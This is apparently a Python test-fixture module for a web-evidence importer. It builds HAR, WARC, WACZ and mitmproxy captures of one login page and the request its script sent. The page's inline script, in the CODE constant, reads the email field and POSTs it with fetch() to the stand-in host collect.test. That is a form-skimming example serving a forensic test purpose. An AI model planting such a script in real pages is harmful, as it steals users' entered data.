"""The same two requests in every format: a page with a script in it, and what that script sent."""

from __future__ import annotations

import io
import json
import zipfile
from pathlib import Path
from typing import Any

from warcio.statusandheaders import StatusAndHeaders
from warcio.warcwriter import WARCWriter

from undertow import imports
from undertow.imports import Told, typed_values
from undertow.model import Evidence

CODE = "\nfetch('https://collect.test/in', {method: 'POST', body: document.querySelector('input[type=email]').value})\n"
PAGE = f"<!doctype html><form><input type=email name=email></form>\n<script>{CODE}</script>"
EMAIL = "ada@example.org"
TOLD = Told(typed=typed_values([f"email={EMAIL}"]), country="DE")
AGENT = "Mozilla/5.0 (Android 15; Mobile) Firefox/140.0"
Json = dict[str, Any]


class Kept:
    """Blobs in memory."""

    def __init__(self) -> None:
        self.blobs: dict[str, bytes] = {}

    def put(self, data: bytes) -> str:
        import hashlib

        sha256 = hashlib.sha256(data).hexdigest()
        self.blobs[sha256] = data
        return sha256

    def get(self, sha256: str) -> bytes:
        return self.blobs[sha256]

    def __contains__(self, sha256: object) -> bool:
        return sha256 in self.blobs


def loaded(path: Path, content: bytes, told: Told = TOLD) -> tuple[Evidence, Kept]:
    """The evidence that is imported from this content."""
    path.write_bytes(content)
    kept = Kept()
    return imports.load(path, told, kept, kept.put), kept


def kinds(evidence: Evidence) -> set[str]:
    """Kinds of all gaps."""
    return {gap.kind for gap in evidence.gaps}


def har_entry(url: str, at: str = "2026-03-01T10:00:00.000Z", **more: Any) -> Json:
    """One entry with an empty answer; `more` goes to the entry, with request and response merged into."""
    request = {"method": "GET", "url": url, "headers": [], "bodySize": 0, **more.pop("request", {})}
    response = {"status": 200, "headers": [], "content": {"size": 0, "mimeType": ""}, **more.pop("response", {})}
    return {"startedDateTime": at, "pageref": "p1", "request": request, "response": response, **more}


def har(*entries: Json) -> bytes:
    """A HAR file of these entries, by default of the two requests."""
    page = har_entry(
        "https://app.test/login",
        request={
            "headers": [{"name": "User-Agent", "value": AGENT}, {"name": "Accept-Language", "value": "de-DE,de;q=0.7"}]
        },
        response={"content": {"size": len(PAGE), "mimeType": "text/html; charset=utf-8", "text": PAGE}},
        _resourceType="document",
    )
    sent = har_entry(
        "https://collect.test/in",
        "2026-03-01T10:00:07.500Z",
        request={"method": "POST", "bodySize": len(EMAIL), "postData": {"mimeType": "text/plain", "text": EMAIL}},
        _resourceType="fetch",
        _initiator={
            "type": "script",
            "stack": {
                "callFrames": [],
                "parent": {
                    "callFrames": [
                        {"functionName": "", "url": "https://app.test/login", "lineNumber": 2, "columnNumber": 0}
                    ]
                },
            },
        },
    )
    log = {
        "version": "1.2",
        "creator": {"name": "WebInspector", "version": "537.36"},
        "pages": [{"id": "p1", "startedDateTime": "2026-03-01T10:00:00.000Z", "title": "Sign in"}],
        "entries": list(entries) or [page, sent],
    }
    return json.dumps({"log": log}).encode()


def warc(*, gzipped: bool = True, revisit: bool = False) -> bytes:
    """A WARC file of the two requests; with a second, repeated answer if asked for."""
    out = io.BytesIO()
    writer = WARCWriter(out, gzip=gzipped, warc_version="1.1")
    info = writer.create_warcinfo_record("x.warc", {"software": "Browsertrix 1.6"})
    writer.write_record(info)

    def add(url: str, at: str, request: StatusAndHeaders, sent: bytes, body: bytes, mime: str) -> Any:
        headers = StatusAndHeaders("200 OK", [("Content-Type", mime)], protocol="HTTP/1.1")
        dated = {"WARC-Date": at}
        answer = writer.create_warc_record(
            url, "response", io.BytesIO(body), http_headers=headers, warc_headers_dict=dated
        )
        asked = writer.create_warc_record(
            url, "request", io.BytesIO(sent), http_headers=request, warc_headers_dict=dated
        )
        writer.write_request_response_pair(asked, answer)
        return answer

    get = StatusAndHeaders("GET /login HTTP/1.1", [("Host", "app.test"), ("User-Agent", AGENT)], is_http_request=True)
    post = StatusAndHeaders("POST /in HTTP/1.1", [("Host", "collect.test")], is_http_request=True)
    page = add("https://app.test/login", "2026-03-01T10:00:00Z", get, b"", PAGE.encode(), "text/html")
    add("https://collect.test/in", "2026-03-01T10:00:07Z", post, EMAIL.encode(), b"ok", "text/plain")
    if revisit:
        again = writer.create_revisit_record(
            "https://app.test/again",
            page.rec_headers.get_header("WARC-Payload-Digest"),
            "https://app.test/login",
            "2026-03-01T10:00:00Z",
            http_headers=StatusAndHeaders("200 OK", [("Content-Type", "text/html")], protocol="HTTP/1.1"),
        )
        writer.write_record(again)
    return out.getvalue()


def wacz(archive: bytes, **more: bytes) -> bytes:
    """A WACZ file around a WARC file."""
    import hashlib

    files = {
        "archive/data.warc.gz": archive,
        "pages/pages.jsonl": b'{"format": "json-pages-1.0"}\n'
        b'{"url": "https://app.test/login", "ts": "2026-03-01T10:00:00Z", "title": "Sign in"}\n',
        **more,
    }
    listed = [{"path": n, "hash": f"sha256:{hashlib.sha256(c).hexdigest()}", "bytes": len(c)} for n, c in files.items()]
    files["datapackage.json"] = json.dumps({"software": "ArchiveWeb.page 0.15", "resources": listed}).encode()
    return zipped(files)


def zipped(files: dict[str, bytes]) -> bytes:
    """A zip of these files."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return out.getvalue()


def tnetstring(value: Any) -> bytes:
    """A value as mitmproxy writes it."""
    match value:
        case None:
            body, kind = b"", b"~"
        case bool():
            body, kind = str(value).lower().encode(), b"!"
        case int():
            body, kind = str(value).encode(), b"#"
        case float():
            body, kind = repr(value).encode(), b"^"
        case bytes():
            body, kind = value, b","
        case str():
            body, kind = value.encode(), b";"
        case list():
            body, kind = b"".join(map(tnetstring, value)), b"]"
        case _:
            body, kind = b"".join(tnetstring(part) for pair in value.items() for part in pair), b"}"
    return str(len(body)).encode() + b":" + body + kind


def flow(host: str, path: str, sent: bytes, answer: bytes, at: float, headers: list[list[bytes]], **more: Any) -> Json:
    """One flow as mitmproxy keeps its state."""
    return {
        "type": "http",
        "version": 21,
        "client_conn": {"id": "c"},
        "server_conn": {"address": [host, 443], "peername": ["192.0.2.7", 443]},
        "request": {
            "method": b"POST" if sent else b"GET",
            "scheme": b"https",
            "authority": b"",
            "host": host,
            "port": 443,
            "path": path.encode(),
            "http_version": b"HTTP/2.0",
            "headers": [[b"user-agent", AGENT.encode()]],
            "content": sent,
            "timestamp_start": at,
        },
        "response": {"status_code": 200, "headers": headers, "content": answer, "timestamp_start": at + 0.1},
        "error": None,
        "websocket": None,
        **more,
    }


def flows() -> list[Json]:
    """The two requests as flows."""
    html = [[b"content-type", b"text/html"]]
    return [
        flow("app.test", "/login", b"", PAGE.encode(), 1772359200.0, html),
        flow("collect.test", "/in", EMAIL.encode(), b"ok", 1772359207.5, [[b"content-type", b"text/plain"]]),
    ]
